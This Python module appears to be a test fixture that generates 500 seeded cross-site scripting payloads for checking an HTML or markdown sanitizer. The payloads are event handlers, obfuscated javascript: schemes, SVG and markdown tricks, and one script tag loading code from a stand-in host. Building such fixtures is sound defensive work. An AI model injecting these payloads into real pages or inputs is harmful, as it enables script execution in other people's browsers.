"""Five hundred pieces of text that want to run something in a reader's browser, made from a seed."""

from random import Random

_JS = ("window.hit=1", "document.title='hit'", "fetch('/hit')", "alert(1)", "parent.hit=1")
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onwheel",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "&#106;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,", "data:text/html;base64,", "&#x6a;&#x61;vascript:",
    "\x01javascript:",
)  # fmt: skip
_SHAPES = (
    "<script>{js}</script>",
    "<ScRiPt src=//zly.example/x.js></sCrIpT>",
    "<script>{js}",
    "<<script>{js}//<</script>",
    "<img src=x {on}={js}>",
    "<img src=x {on}='{js}'>",
    '"><img src=x {on}="{js}">',
    "<img/src=x/{on}={js}>",
    "<svg {on}={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate {on}={js} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x {on}={js}>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src {on}={js}>",
    "<details open {on}={js}>x</details>",
    "<body {on}={js}>",
    "<iframe src='{scheme}{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='{scheme}{js}'></object>",
    "<embed src='{scheme}{js}'>",
    "<a href='{scheme}{js}'>naciśnij</a>",
    "<form action='{scheme}{js}'><button>naciśnij</button></form>",
    "<button formaction='{scheme}{js}'>naciśnij</button>",
    "<meta http-equiv=refresh content='0;url={scheme}{js}'>",
    "<base href='{scheme}{js}//'>",
    "<link rel=stylesheet href='{scheme}{js}'>",
    "<style>@import '{scheme}{js}'; *{{background:url('{scheme}{js}')}}</style>",
    "<div style=\"background:url('{scheme}{js}')\">x</div>",
    "<input autofocus {on}={js}>",
    "<video><source {on}={js}></video>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x {on}={js}>'>",
    "[naciśnij]({scheme}{js})",
    "[naciśnij](<{scheme}{js}>)",
    "[naciśnij][1]\n\n[1]: {scheme}{js}",
    "![x]({scheme}{js})",
    '![x](x "" {on}={js})',
    "<{scheme}{js}>",
    '[x](https://zly.example "\'><img src=x {on}={js}>")',
    "`<img src=x {on}={js}>`\n\n    <script>{js}</script>",
    "| a |\n|---|\n| <img src=x {on}={js}> |",
    "# <img src=x {on}={js}>",
    "- <svg/{on}={js}>\n- [x]({scheme}{js})",
    "> <script>{js}</script>",
    "\\<img src=x {on}={js}\\>",
    "&lt;img src=x {on}={js}&gt;",
    "<!--><img src=x {on}={js}>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<p id=hit name=hit>{js}</p><a id=hit></a>",
    "{{{{ 7*7 }}}}{{% for x in [] %}}{js}",
    "</textarea></title></script><script>{js}</script>",
)


def snippets(count: int = 500) -> list[str]:
    """Give so many, every shape among them; long enough for a block of text."""
    random = Random(2027)  # the same snippets each time
    found: list[str] = []
    while len(found) < count:
        shape = _SHAPES[len(found) % len(_SHAPES)]
        text = shape.format(js=random.choice(_JS), on=random.choice(_EVENTS), scheme=random.choice(_SCHEMES))
        for _ in range(random.randrange(3)):
            place = random.randrange(len(text))
            text = text[:place] + random.choice(("\t", "\n", "/", " ", "<", '"', "'", "&#0;", "<b>")) + text[place:]
        found.append(f"Zwykłe słowa. {text}")
    return found
